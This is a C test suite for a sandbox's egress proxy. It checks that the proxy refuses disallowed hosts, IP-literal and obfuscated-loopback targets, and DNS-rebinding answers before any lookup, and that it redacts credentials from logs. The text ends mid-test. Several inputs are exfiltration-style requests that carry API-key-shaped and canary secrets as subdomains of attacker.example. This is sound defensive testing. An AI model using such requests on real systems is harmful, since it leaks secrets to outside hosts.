/*
 * test_proxy.c: the lease's egress proxy on a real loop (SPEC 8.2, 8.7;
 * issue 7). Clients are real sockets in a thread; the upstream is a test
 * server on this process's loopback; the resolver and dialer are injected
 * and record every call, so "no lookup for a denied name" and "the vetted
 * address is the one dialled" are asserted, not assumed. The end-to-end
 * cases run real curl behind corral-sbx-init's forwarder inside a network
 * namespace of their own. Nothing here leaves this machine.
 */
#include <arpa/inet.h>
#include <check.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <net/if.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
#include <uv.h>

#include "sandbox-adapters/sbx.h"
#include "sandbox-adapters/sbx_egress.h"
#include "sandbox-adapters/sbx_int.h"
#include "support/check_util.h"

Suite *proxy_suite(void);

#define MAX_EV 64
#define MAX_CALLS 16

struct rec_ev {
	enum sbx_proxy_verdict v;
	enum sbx_egress_reason r;
	char method[16];
	char target[256];
	char host[256];
	char address[80];
	unsigned long long up, down;
	bool test;
};

struct client;
struct proc;

struct fx {
	uv_loop_t loop;
	uv_timer_t tick;
	uv_async_t wake;
	struct sbx_proxy *px;
	struct sbx_proxy_opts o;
	const char *allow[8];
	char allow_buf[4][128];
	char test_hosts[128];
	char *dir;
	char sock[sizeof ((struct sockaddr_un *)0)->sun_path];
	bool closed;
	/* the injected resolver */
	bool inject_resolver;
	bool resolve_sync;
	int nresolve;
	char resolved[MAX_CALLS][256];
	int answer_status;
	struct sockaddr_storage answer[4];
	size_t nanswer;
	/* the injected dialer */
	bool inject_dialer;
	int ndial;
	char dialled[MAX_CALLS][80];
	/* events */
	struct rec_ev ev[MAX_EV];
	int nev;
	unsigned inflight, inflight_max;
	int ninflight;
	/* the upstream: echo, or one HTTP reply to a GET */
	uv_tcp_t srv;
	unsigned port;
	int upstream_conns;
	/* what run_until waits on */
	struct client *waiting;
	int want_nev;
	struct proc *proc;
	atomic_bool *zone_done;
};

/* ------------------------------------------------------------------ */
/* The upstream test server.                                           */

struct upconn {
	uv_tcp_t h;
	char buf[16384];
	struct fx *f;
};

struct upwrite {
	uv_write_t w;
	char data[];
};

static void
free_close(uv_handle_t *h)
{
	free(h->data);
}

static void
up_alloc(uv_handle_t *h, size_t hint, uv_buf_t *b)
{
	struct upconn *c = h->data;

	*b = uv_buf_init(c->buf, sizeof c->buf);
}

static void
up_written(uv_write_t *w, int status)
{
	free(w->data);
}

static void
up_send(struct upconn *c, const char *data, size_t n)
{
	struct upwrite *uw = malloc(sizeof *uw + n);
	uv_buf_t b;

	ck_assert_ptr_nonnull(uw);
	memcpy(uw->data, data, n);
	uw->w.data = uw;
	b = uv_buf_init(uw->data, (unsigned)n);
	ck_assert_int_eq(uv_write(&uw->w, (uv_stream_t *)&c->h, &b, 1,
	    up_written), 0);
}

#define HELLO "hello-from-upstream\n"

static void
up_read(uv_stream_t *s, ssize_t n, const uv_buf_t *b)
{
	struct upconn *c = s->data;

	if (n < 0) {
		uv_close((uv_handle_t *)s, free_close);
		return;
	}
	if (n >= 5 && memcmp(b->base, "FLOOD", 5) == 0) {
		/* A megabyte the client will not wait for. */
		char *chunk = malloc(65536);

		ck_assert_ptr_nonnull(chunk);
		memset(chunk, 'f', 65536);
		for (int i = 0; i < 16; i++)
			up_send(c, chunk, 65536);
		free(chunk);
		return;
	}
	if (n >= 4 && memcmp(b->base, "GET ", 4) == 0) {
		static const char reply[] = "HTTP/1.1 200 OK\r\n"
		    "Content-Length: 20\r\nConnection: close\r\n\r\n" HELLO;

		up_send(c, reply, sizeof reply - 1);
		return;
	}
	up_send(c, b->base, (size_t)n);
}

static void
up_connection(uv_stream_t *srv, int status)
{
	struct fx *f = srv->data;
	struct upconn *c = calloc(1, sizeof *c);

	ck_assert_ptr_nonnull(c);
	c->f = f;
	uv_tcp_init(&f->loop, &c->h);
	c->h.data = c;
	ck_assert_int_eq(uv_accept(srv, (uv_stream_t *)&c->h), 0);
	f->upstream_conns++;
	uv_read_start((uv_stream_t *)&c->h, up_alloc, up_read);
}

/* ------------------------------------------------------------------ */
/* Injected resolver and dialer, recording every call.                 */

struct lookup {
	uv_timer_t t;
	struct fx *f;
	sbx_proxy_resolved_fn done;
	void *token;
};

static void
answer(struct fx *f, sbx_proxy_resolved_fn done, void *token)
{
	done(token, f->answer_status, f->answer, f->nanswer);
}

static void
lookup_fire(uv_timer_t *t)
{
	struct lookup *l = t->data;

	answer(l->f, l->done, l->token);
	uv_close((uv_handle_t *)t, free_close);
}

static int
test_resolve(uv_loop_t *loop, const char *host, sbx_proxy_resolved_fn done,
    void *token, void *ud)
{
	struct fx *f = ud;
	struct lookup *l;

	ck_assert_int_lt(f->nresolve, MAX_CALLS);
	snprintf(f->resolved[f->nresolve++], sizeof f->resolved[0], "%s",
	    host);
	if (f->resolve_sync) {
		answer(f, done, token);
		return 0;
	}
	l = calloc(1, sizeof *l);
	ck_assert_ptr_nonnull(l);
	l->f = f;
	l->done = done;
	l->token = token;
	uv_timer_init(loop, &l->t);
	l->t.data = l;
	uv_timer_start(&l->t, lookup_fire, 0, 0);
	return 0;
}

/* Record the vetted address, then reach the test upstream instead. */
static int
test_dial(uv_connect_t *req, uv_tcp_t *tcp, const struct sockaddr *addr,
    void (*cb)(uv_connect_t *, int), void *ud)
{
	struct fx *f = ud;
	struct sockaddr_in to;
	char a[INET6_ADDRSTRLEN];
	unsigned port;

	if (addr->sa_family == AF_INET) {
		const struct sockaddr_in *in = (const void *)addr;

		inet_ntop(AF_INET, &in->sin_addr, a, sizeof a);
		port = ntohs(in->sin_port);
	} else {
		const struct sockaddr_in6 *in6 = (const void *)addr;

		inet_ntop(AF_INET6, &in6->sin6_addr, a, sizeof a);
		port = ntohs(in6->sin6_port);
	}
	ck_assert_int_lt(f->ndial, MAX_CALLS);
	snprintf(f->dialled[f->ndial++], sizeof f->dialled[0], "%s:%u", a,
	    port);
	uv_ip4_addr("127.0.0.1", (int)f->port, &to);
	return uv_tcp_connect(req, tcp, (const struct sockaddr *)&to, cb);
}

static void
on_event(const struct sbx_proxy_event *ev, void *ud)
{
	struct fx *f = ud;
	struct rec_ev *r;

	ck_assert_int_lt(f->nev, MAX_EV);
	r = &f->ev[f->nev++];
	r->v = ev->verdict;
	r->r = ev->reason;
	snprintf(r->method, sizeof r->method, "%s", ev->method);
	snprintf(r->target, sizeof r->target, "%s", ev->target);
	snprintf(r->host, sizeof r->host, "%s", ev->host);
	snprintf(r->address, sizeof r->address, "%s", ev->address);
	r->up = ev->bytes_up;
	r->down = ev->bytes_down;
	r->test = ev->test_override;
}

static void
on_inflight(unsigned n, void *ud)
{
	struct fx *f = ud;

	f->inflight = n;
	f->ninflight++;
	if (n > f->inflight_max)
		f->inflight_max = n;
}

static void
on_proxy_closed(void *ud)
{
	struct fx *f = ud;

	f->closed = true;
}

static void
on_tick(uv_timer_t *t)
{
}

/* A fixture: a loop, the upstream on 127.0.0.1:port, default options. */
static void
fx_init(struct fx *f)
{
	struct sockaddr_in a;
	struct sockaddr_storage ss;
	int len = sizeof ss;

	memset(f, 0, sizeof *f);
	ck_assert_int_eq(uv_loop_init(&f->loop), 0);
	uv_timer_init(&f->loop, &f->tick);
	uv_async_init(&f->loop, &f->wake, NULL);
	uv_tcp_init(&f->loop, &f->srv);
	f->srv.data = f;
	uv_ip4_addr("127.0.0.1", 0, &a);
	ck_assert_int_eq(uv_tcp_bind(&f->srv, (struct sockaddr *)&a, 0), 0);
	ck_assert_int_eq(uv_listen((uv_stream_t *)&f->srv, 16,
	    up_connection), 0);
	ck_assert_int_eq(uv_tcp_getsockname(&f->srv, (struct sockaddr *)&ss,
	    &len), 0);
	f->port = ntohs(((struct sockaddr_in *)&ss)->sin_port);
	f->dir = cu_tmpdir("proxy");
	snprintf(f->sock, sizeof f->sock, "%s/proxy.sock", f->dir);
	snprintf(f->allow_buf[0], sizeof f->allow_buf[0], "allowed.test:%u",
	    f->port);
	snprintf(f->allow_buf[1], sizeof f->allow_buf[1], "rebind.test:443");
	snprintf(f->allow_buf[2], sizeof f->allow_buf[2], "public.test:%u",
	    f->port);
	f->allow[0] = f->allow_buf[0];
	f->allow[1] = f->allow_buf[1];
	f->allow[2] = f->allow_buf[2];
	f->allow[3] = NULL;
	f->o.sock_path = f->sock;
	f->o.uid = 0;
	f->o.gid = 0;
	f->o.allow = f->allow;
	f->o.event = on_event;
	f->o.inflight = on_inflight;
	f->o.ud = f;
	f->o.resolve = test_resolve;
	f->o.resolve_ud = f;
	f->o.dial = test_dial;
	f->o.dial_ud = f;
	f->answer_status = 0;
}

static void
fx_start(struct fx *f)
{
	ck_assert_int_eq(sbx_proxy_start(&f->loop, &f->o, &f->px), 0);
	ck_assert_ptr_nonnull(f->px);
}

/* Run the loop until cond(f) or ms pass; returns cond's last value. */
static bool
run_until(struct fx *f, bool (*cond)(struct fx *), unsigned ms)
{
	uint64_t end = cu_now_ms() + ms;

	uv_timer_start(&f->tick, on_tick, 10, 10);
	while (!cond(f) && cu_now_ms() < end)
		uv_run(&f->loop, UV_RUN_ONCE);
	uv_timer_stop(&f->tick);
	return cond(f);
}

static bool
is_closed(struct fx *f)
{
	return f->closed;
}

/* The fixture's own handles are embedded; the rest were malloc'd. */
static void
walk_close(uv_handle_t *h, void *arg)
{
	struct fx *f = arg;

	if (uv_is_closing(h))
		return;
	if (h == (uv_handle_t *)&f->srv || h == (uv_handle_t *)&f->tick ||
	    h == (uv_handle_t *)&f->wake)
		uv_close(h, NULL);
	else
		uv_close(h, free_close);
}

static void
fx_done(struct fx *f)
{
	if (f->px != NULL) {
		sbx_proxy_close(f->px, on_proxy_closed, f);
		ck_assert(run_until(f, is_closed, 5000));
		f->px = NULL;
	}
	/* The upstream's connections end with their tunnels. */
	uv_walk(&f->loop, walk_close, f);
	while (uv_run(&f->loop, UV_RUN_NOWAIT) != 0)
		;
	ck_assert_int_eq(uv_loop_close(&f->loop), 0);
	cu_rmrf(f->dir);
	free(f->dir);
}

/* ------------------------------------------------------------------ */
/* The client: blocking sockets in a thread while the loop runs.       */

struct client {
	const char *sock;
	const char *request;
	size_t reqlen;		/* 0: strlen(request) */
	const char *payload;	/* after a 200: sent, echo expected */
	bool hold;		/* after a 200: read until EOF */
	int status;		/* the HTTP status, or -1 */
	char head[2048];
	char body[4096];
	size_t bodylen;
	char echo[4096];
	size_t echolen;
	bool eof_seen;		/* hold: the proxy ended the tunnel */
	atomic_bool established;
	atomic_bool done;
	int err;
	struct fx *f;
	pthread_t th;
};

static int
client_connect(const char *path)
{
	struct sockaddr_un a;
	struct timeval tv = { .tv_sec = 10 };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -errno;
	memset(&a, 0, sizeof a);
	a.sun_family = AF_UNIX;
	snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) < 0) {
		int e = errno;

		close(fd);
		return -e;
	}
	return fd;
}

static bool
write_all(int fd, const char *p, size_t n)
{
	while (n > 0) {
		ssize_t w = send(fd, p, n, MSG_NOSIGNAL);

		if (w <= 0)
			return false;
		p += w;
		n -= (size_t)w;
	}
	return true;
}

static void *
client_main(void *arg)
{
	struct client *c = arg;
	size_t hl = 0, n = c->reqlen ? c->reqlen : strlen(c->request);
	char *end = NULL;
	ssize_t r;
	int fd;

	c->status = -1;
	if ((fd = client_connect(c->sock)) < 0) {
		c->err = fd;
		goto out;
	}
	/* A refusal may come before the request is all written. */
	if (!write_all(fd, c->request, n))
		c->err = -EPIPE;
	/* The head, byte by byte so nothing of the tunnel is eaten. */
	while (hl + 1 < sizeof c->head && end == NULL) {
		if ((r = read(fd, c->head + hl, 1)) <= 0)
			break;
		hl++;
		c->head[hl] = '\0';
		end = strstr(c->head, "\r\n\r\n");
	}
	if (end == NULL || sscanf(c->head, "HTTP/1.1 %d", &c->status) != 1) {
		c->err = c->err ? c->err : -EPROTO;
		goto closeout;
	}
	if (c->status != 200) {
		while (c->bodylen < sizeof c->body - 1 && (r = read(fd,
		    c->body + c->bodylen, sizeof c->body - 1 -
		    c->bodylen)) > 0)
			c->bodylen += (size_t)r;
		/* The body is the reason and a newline. */
		if (c->bodylen > 0 && c->body[c->bodylen - 1] == '\n')
			c->bodylen--;
		c->body[c->bodylen] = '\0';
		goto closeout;
	}
	c->established = true;
	uv_async_send(&c->f->wake);
	if (c->payload != NULL) {
		size_t want = strlen(c->payload);

		if (!write_all(fd, c->payload, want)) {
			c->err = -EPIPE;
			goto closeout;
		}
		while (c->echolen < want && (r = read(fd, c->echo + c->echolen,
		    sizeof c->echo - 1 - c->echolen)) > 0)
			c->echolen += (size_t)r;
		c->echo[c->echolen] = '\0';
	}
	if (c->hold) {
		char tmp[4096];

		while ((r = read(fd, tmp, sizeof tmp)) > 0)
			;
		c->eof_seen = r == 0;
	}
closeout:
	close(fd);
out:
	c->done = true;
	uv_async_send(&c->f->wake);
	return NULL;
}

static void
client_start(struct fx *f, struct client *c, const char *request,
    const char *payload, bool hold)
{
	memset(c, 0, sizeof *c);
	c->f = f;
	c->sock = f->sock;
	c->request = request;
	c->payload = payload;
	c->hold = hold;
	ck_assert_int_eq(pthread_create(&c->th, NULL, client_main, c), 0);
}

static bool
client_finished(struct fx *f)
{
	return f->waiting->done;
}

static void
client_wait(struct fx *f, struct client *c)
{
	f->waiting = c;
	ck_assert_msg(run_until(f, client_finished, 15000), "client hung");
	pthread_join(c->th, NULL);
}

/* One request, start to end, on a fresh client. */
static void
client_run(struct fx *f, struct client *c, const char *request,
    const char *payload)
{
	client_start(f, c, request, payload, false);
	client_wait(f, c);
}

static const struct rec_ev *
last_ev(struct fx *f)
{
	ck_assert_int_gt(f->nev, 0);
	return &f->ev[f->nev - 1];
}

static bool
have_events(struct fx *f)
{
	return f->nev >= f->want_nev;
}

static void
wait_events(struct fx *f, int n)
{
	f->want_nev = n;
	ck_assert_msg(run_until(f, have_events, 5000), "%d events of %d",
	    f->nev, n);
}

/* ------------------------------------------------------------------ */
/* Refusals: decided before any lookup.                                */

struct refusal {
	const char *request;
	enum sbx_egress_reason reason;
	const char *method;
};

static const struct refusal refusals[] = {
	{ "CONNECT evil.example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n",
	  SBX_EGRESS_NOT_ALLOWED, "CONNECT" },
	{ "CONNECT allowed.test:8443 HTTP/1.1\r\n\r\n",
	  SBX_EGRESS_NOT_ALLOWED, "CONNECT" },
	{ "CONNECT allowed.test.evil:443 HTTP/1.1\r\n\r\n",
	  SBX_EGRESS_NOT_ALLOWED, "CONNECT" },
	{ "CONNECT 127.0.0.1:443 HTTP/1.1\r\n\r\n",
	  SBX_EGRESS_IP_LITERAL, "CONNECT" },
	{ "CONNECT 0x7f.1:443 HTTP/1.1\r\n\r\n",
	  SBX_EGRESS_IP_LITERAL, "CONNECT" },
	{ "CONNECT 2130706433:443 HTTP/1.1\r\n\r\n",
	  SBX_EGRESS_IP_LITERAL, "CONNECT" },
	{ "CONNECT [::1]:443 HTTP/1.1\r\n\r\n",
	  SBX_EGRESS_IP_LITERAL, "CONNECT" },
	{ "CONNECT rebind.test.:443 HTTP/1.1\r\n\r\n",
	  SBX_EGRESS_TRAILING_DOT, "CONNECT" },
	{ "CONNECT user@rebind.test:443 HTTP/1.1\r\n\r\n",
	  SBX_EGRESS_BAD_NAME, "CONNECT" },
	{ "CONNECT sk-ant-api03-c4n4ry.attacker.example:443 HTTP/1.1\r\n\r\n",
	  SBX_EGRESS_NOT_ALLOWED, "CONNECT" },
	{ "GET http://rebind.test:443/ HTTP/1.1\r\nHost: rebind.test\r\n\r\n",
	  SBX_EGRESS_NOT_CONNECT, "GET" },
	{ "POST http://rebind.test:443/ HTTP/1.1\r\nContent-Length: 3\r\n"
	  "\r\nabc", SBX_EGRESS_NOT_CONNECT, "POST" },
	{ "GET / HTTP/1.1\r\nHost: rebind.test:443\r\n\r\n",
	  SBX_EGRESS_NOT_CONNECT, "GET" },
	{ "HELLO\r\n\r\n", SBX_EGRESS_MALFORMED, "" },
	{ "CONNECT rebind.test:443 SPDY/3\r\n\r\n", SBX_EGRESS_MALFORMED, "" },
};

START_TEST(test_proxy_refusals)
{
	const struct refusal *w = &refusals[_i];
	struct client c;
	struct fx f;
	char hdr[128];

	fx_init(&f);
	fx_start(&f);
	client_run(&f, &c, w->request, NULL);
	ck_assert_int_eq(c.err, 0);
	ck_assert_int_eq(c.status, 403);
	snprintf(hdr, sizeof hdr, "X-Corral-Egress: %s\r\n",
	    sbx_egress_reason_name(w->reason));
	ck_assert_msg(strstr(c.head, hdr) != NULL, "%s", c.head);
	ck_assert_str_eq(c.body, sbx_egress_reason_name(w->reason));
	wait_events(&f, 1);
	ck_assert_int_eq(f.nev, 1);
	ck_assert_int_eq(f.ev[0].v, SBX_PROXY_DENY);
	ck_assert_int_eq(f.ev[0].r, w->reason);
	if (*w->method != '\0')
		ck_assert_str_eq(f.ev[0].method, w->method);
	ck_assert_str_eq(f.ev[0].address, "");
	/* The resolver saw no name at all, the dialer no address. */
	ck_assert_int_eq(f.nresolve, 0);
	ck_assert_int_eq(f.ndial, 0);
	ck_assert_int_eq(f.upstream_conns, 0);
	fx_done(&f);
}
END_TEST

/* A secret-bearing name is logged as asked, but never looked up. */
START_TEST(test_proxy_secret_name_no_lookup)
{
	struct client c;
	struct fx f;

	fx_init(&f);
	fx_start(&f);
	client_run(&f, &c, "CONNECT c4n4ry-0123456789abcdef.attacker.example"
	    ":443 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 403);
	wait_events(&f, 1);
	ck_assert_str_eq(f.ev[0].target,
	    "c4n4ry-0123456789abcdef.attacker.example:443");
	ck_assert_int_eq(f.nresolve, 0);
	fx_done(&f);
}
END_TEST

/* With the lease's credential known, the log never carries it. */
START_TEST(test_proxy_redacts_credential)
{
	struct client c;
	struct fx f;

	fx_init(&f);
	f.o.redact = "c4n4ry-0123456789abcdef";
	fx_start(&f);
	client_run(&f, &c, "CONNECT x.c4n4ry-0123456789abcdef.attacker.example"
	    ":443 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 403);
	client_run(&f, &c, "GET http://c4n4ry-0123456789abcdef/ HTTP/1.1\r\n"
	    "\r\n", NULL);
	ck_assert_int_eq(c.status, 403);
	wait_events(&f, 2);
	ck_assert_str_eq(f.ev[0].target,
	    "x.[REDACTED].attacker.example:443");
	ck_assert_str_eq(f.ev[1].target, "http://[REDACTED]/");
	ck_assert_int_eq(f.nresolve, 0);
	fx_done(&f);
}
END_TEST

/* An allowlisted name answering a loopback or private address. */
START_TEST(test_proxy_rebinding)
{
	static const char *const answers[][2] = {
		{ "127.0.0.1", NULL },
		{ "10.1.2.3", NULL },
		{ "169.254.169.254", NULL },
		{ "93.184.216.34", "192.168.0.1" },
		{ "::1", NULL },
		{ "::ffff:127.0.0.1", NULL },
	};
	const char *const *a = answers[_i];
	struct client c;
	struct fx f;

	fx_init(&f);
	for (int k = 0; k < 2 && a[k] != NULL; k++) {
		struct sockaddr_storage *ss = &f.answer[f.nanswer++];

		if (strchr(a[k], ':') != NULL)
			uv_ip6_addr(a[k], 0, (struct sockaddr_in6 *)ss);
		else
			uv_ip4_addr(a[k], 0, (struct sockaddr_in *)ss);
	}
	f.resolve_sync = _i % 2 == 1;
	fx_start(&f);
	client_run(&f, &c, "CONNECT rebind.test:443 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 403);
	ck_assert_str_eq(c.body, "non-global-address");
	wait_events(&f, 1);
	ck_assert_int_eq(f.ev[0].v, SBX_PROXY_DENY);
	ck_assert_int_eq(f.ev[0].r, SBX_EGRESS_PRIVATE_ADDRESS);
	ck_assert_int_eq(f.nresolve, 1);
	ck_assert_str_eq(f.resolved[0], "rebind.test");
	/* Nothing was dialled: not even the public address of the set. */
	ck_assert_int_eq(f.ndial, 0);
	ck_assert_int_eq(f.upstream_conns, 0);
	fx_done(&f);
}
END_TEST

START_TEST(test_proxy_resolve_failure)
{
	struct client c;
	struct fx f;

	fx_init(&f);
	f.answer_status = UV_EAI_NONAME;
	fx_start(&f);
	client_run(&f, &c, "CONNECT rebind.test:443 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 502);
	wait_events(&f, 1);
	/* A failure, not a violation. */
	ck_assert_int_eq(f.ev[0].v, SBX_PROXY_ERROR);
	ck_assert_int_eq(f.ev[0].r, SBX_EGRESS_RESOLVE_FAILED);
	ck_assert(!sbx_egress_reason_denies(f.ev[0].r));
	fx_done(&f);
}
END_TEST

/* ------------------------------------------------------------------ */
/* Allowed tunnels.                                                    */

/* The vetted address is the one dialled; the name is looked up once. */
START_TEST(test_proxy_dials_vetted_address)
{
	struct client c;
	struct fx f;
	char req[128], want[64];

	fx_init(&f);
	uv_ip4_addr("93.184.216.34", 0, (struct sockaddr_in *)&f.answer[0]);
	uv_ip6_addr("2606:2800:220:1::1", 0,
	    (struct sockaddr_in6 *)&f.answer[1]);
	f.nanswer = 2;
	f.resolve_sync = _i == 1;
	fx_start(&f);
	/* Upper case: folded, and the lookup sees lower case. */
	snprintf(req, sizeof req, "CONNECT PUBLIC.test:%u HTTP/1.1\r\n\r\n",
	    f.port);
	client_run(&f, &c, req, "ping over the tunnel");
	ck_assert_int_eq(c.err, 0);
	ck_assert_int_eq(c.status, 200);
	ck_assert_str_eq(c.echo, "ping over the tunnel");
	ck_assert_int_eq(f.nresolve, 1);
	ck_assert_str_eq(f.resolved[0], "public.test");
	ck_assert_int_eq(f.ndial, 1);
	snprintf(want, sizeof want, "93.184.216.34:%u", f.port);
	ck_assert_str_eq(f.dialled[0], want);
	wait_events(&f, 2);
	ck_assert_int_eq(f.ev[0].v, SBX_PROXY_ALLOW);
	ck_assert_str_eq(f.ev[0].host, "public.test");
	ck_assert_str_eq(f.ev[0].address, want);
	ck_assert(!f.ev[0].test);
	ck_assert_int_eq(f.ev[1].v, SBX_PROXY_CLOSE);
	ck_assert_uint_eq(f.ev[1].up, strlen("ping over the tunnel"));
	ck_assert_uint_eq(f.ev[1].down, strlen("ping over the tunnel"));
	fx_done(&f);
}
END_TEST

/*
 * Through the production path (default resolver and dialer) to a test
 * upstream on loopback: only the test host map makes that address
 * dialable, and every event says so.
 */
START_TEST(test_proxy_test_override_e2e)
{
	struct sbx_proxy_stats st;
	struct client c;
	struct fx f;
	char req[128], want[64];

	fx_init(&f);
	f.o.resolve = NULL;
	f.o.dial = NULL;
	snprintf(f.test_hosts, sizeof f.test_hosts,
	    "allowed.test=127.0.0.1,rebind.test~127.0.0.1");
	f.o.test_hosts = f.test_hosts;
	f.o.quiet_ms = 50;
	fx_start(&f);
	snprintf(req, sizeof req, "CONNECT allowed.test:%u HTTP/1.1\r\n"
	    "Host: allowed.test:%u\r\n\r\n", f.port, f.port);
	client_run(&f, &c, req, "0123456789");
	ck_assert_int_eq(c.status, 200);
	ck_assert_str_eq(c.echo, "0123456789");
	wait_events(&f, 2);
	snprintf(want, sizeof want, "127.0.0.1:%u", f.port);
	ck_assert_int_eq(f.ev[0].v, SBX_PROXY_ALLOW);
	ck_assert_str_eq(f.ev[0].address, want);
	ck_assert(f.ev[0].test);
	ck_assert(f.ev[1].test);
	ck_assert_int_eq(f.ev[1].v, SBX_PROXY_CLOSE);
	ck_assert_int_eq(f.upstream_conns, 1);
	/* In flight while it ran, idle after. */
	ck_assert_uint_ge(f.inflight_max, 1);
	ck_assert_uint_eq(f.inflight, 0);
	ck_assert_uint_eq(sbx_proxy_inflight(f.px), 0);
	sbx_proxy_stats(f.px, &st);
	ck_assert_uint_eq(st.allowed, 1);
	ck_assert_uint_eq(st.denied, 0);
	ck_assert_uint_eq(st.bytes, 20);
	/* The map does not open other names or ports. */
	client_run(&f, &c, "CONNECT allowed.test:1 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 403);
	/* "name~addr" is a lookup's answer, vetted like one: loopback is
	 * refused even for a name on the list (no /etc/hosts needed). */
	client_run(&f, &c, "CONNECT rebind.test:443 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 403);
	wait_events(&f, 4);
	ck_assert_int_eq(f.ev[3].v, SBX_PROXY_DENY);
	ck_assert_int_eq(f.ev[3].r, SBX_EGRESS_PRIVATE_ADDRESS);
	ck_assert(f.ev[3].test);
	ck_assert_int_eq(f.upstream_conns, 1);
	fx_done(&f);
}
END_TEST

/* Bytes sent with the CONNECT itself reach the upstream. */
START_TEST(test_proxy_early_data)
{
	struct client c;
	struct fx f;
	char req[256];

	fx_init(&f);
	uv_ip4_addr("93.184.216.34", 0, (struct sockaddr_in *)&f.answer[0]);
	f.nanswer = 1;
	fx_start(&f);
	snprintf(req, sizeof req, "CONNECT public.test:%u HTTP/1.1\r\n\r\n"
	    "early-bytes", f.port);
	client_run(&f, &c, req, "+late");
	ck_assert_int_eq(c.status, 200);
	/* The echo of both, in order: the early bytes first. */
	ck_assert_uint_ge(c.echolen, 5);
	ck_assert_int_eq(strncmp(c.echo, "early-bytes+late", c.echolen), 0);
	fx_done(&f);
}
END_TEST

START_TEST(test_proxy_loopback_grant)
{
	struct client c;
	struct fx f;
	char req[128], want[64];

	fx_init(&f);
	f.allow[0] = NULL;
	f.o.loopback_name = "localhost";
	f.o.loopback_port = f.port;
	fx_start(&f);
	snprintf(req, sizeof req, "CONNECT localhost:%u HTTP/1.1\r\n\r\n",
	    f.port);
	client_run(&f, &c, req, "model");
	ck_assert_int_eq(c.status, 200);
	ck_assert_str_eq(c.echo, "model");
	ck_assert_int_eq(f.nresolve, 0);
	snprintf(want, sizeof want, "127.0.0.1:%u", f.port);
	ck_assert_str_eq(f.dialled[0], want);
	wait_events(&f, 2);
	ck_assert_str_eq(f.ev[0].address, want);
	/* Another port, or the address itself: refused. */
	snprintf(req, sizeof req, "CONNECT localhost:%u HTTP/1.1\r\n\r\n",
	    f.port == 65535 ? f.port - 1 : f.port + 1);
	client_run(&f, &c, req, NULL);
	ck_assert_int_eq(c.status, 403);
	snprintf(req, sizeof req, "CONNECT 127.0.0.1:%u HTTP/1.1\r\n\r\n",
	    f.port);
	client_run(&f, &c, req, NULL);
	ck_assert_int_eq(c.status, 403);
	ck_assert_str_eq(c.body, "ip-literal");
	fx_done(&f);
}
END_TEST

/* ------------------------------------------------------------------ */
/* Caps.                                                               */

static bool
client_established(struct fx *f)
{
	return f->waiting->established || f->waiting->done;
}

START_TEST(test_proxy_cap_active)
{
	struct client a, b;
	struct fx f;
	char req[128];

	fx_init(&f);
	uv_ip4_addr("93.184.216.34", 0, (struct sockaddr_in *)&f.answer[0]);
	f.nanswer = 1;
	f.o.max_active = 1;
	fx_start(&f);
	snprintf(req, sizeof req, "CONNECT public.test:%u HTTP/1.1\r\n\r\n",
	    f.port);
	client_start(&f, &a, req, NULL, true);
	f.waiting = &a;
	ck_assert(run_until(&f, client_established, 5000));
	ck_assert(a.established);
	client_run(&f, &b, req, NULL);
	ck_assert_int_eq(b.status, 503);
	ck_assert_str_eq(b.body, "cap-connections");
	ck_assert_int_eq(last_ev(&f)->v, SBX_PROXY_LIMIT);
	ck_assert(!sbx_egress_reason_denies(last_ev(&f)->r));
	/* Closing the proxy ends the held tunnel: its client sees EOF. */
	sbx_proxy_close(f.px, on_proxy_closed, &f);
	f.px = NULL;
	client_wait(&f, &a);
	ck_assert(a.eof_seen);
	ck_assert(run_until(&f, is_closed, 5000));
	ck_assert_int_eq(access(f.sock, F_OK), -1);
	ck_assert_int_eq(f.ev[f.nev - 1].v, SBX_PROXY_CLOSE);
	fx_done(&f);
}
END_TEST

START_TEST(test_proxy_cap_bytes)
{
	struct client c;
	struct fx f;
	char req[128], big[200];

	fx_init(&f);
	uv_ip4_addr("93.184.216.34", 0, (struct sockaddr_in *)&f.answer[0]);
	f.nanswer = 1;
	f.o.max_bytes = 100;
	fx_start(&f);
	snprintf(req, sizeof req, "CONNECT public.test:%u HTTP/1.1\r\n\r\n",
	    f.port);
	memset(big, 'x', sizeof big - 1);
	big[sizeof big - 1] = '\0';
	client_run(&f, &c, req, big);
	ck_assert_int_eq(c.status, 200);
	ck_assert_uint_lt(c.echolen, sizeof big - 1);
	wait_events(&f, 2);
	ck_assert_int_eq(f.ev[1].v, SBX_PROXY_CLOSE);
	ck_assert_int_eq(f.ev[1].r, SBX_EGRESS_CAP_BYTES);
	/* Spent: the next one is refused up front. */
	client_run(&f, &c, req, NULL);
	ck_assert_int_eq(c.status, 503);
	ck_assert_str_eq(c.body, "cap-bytes");
	fx_done(&f);
}
END_TEST

START_TEST(test_proxy_cap_total)
{
	struct client c;
	struct fx f;

	fx_init(&f);
	f.o.max_total = 2;
	fx_start(&f);
	client_run(&f, &c, "CONNECT a.example:443 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 403);
	client_run(&f, &c, "CONNECT a.example:443 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 403);
	client_run(&f, &c, "CONNECT a.example:443 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 503);
	ck_assert_str_eq(c.body, "cap-connections");
	fx_done(&f);
}
END_TEST

START_TEST(test_proxy_request_timeout)
{
	struct client c;
	struct fx f;

	fx_init(&f);
	f.o.request_ms = 100;
	fx_start(&f);
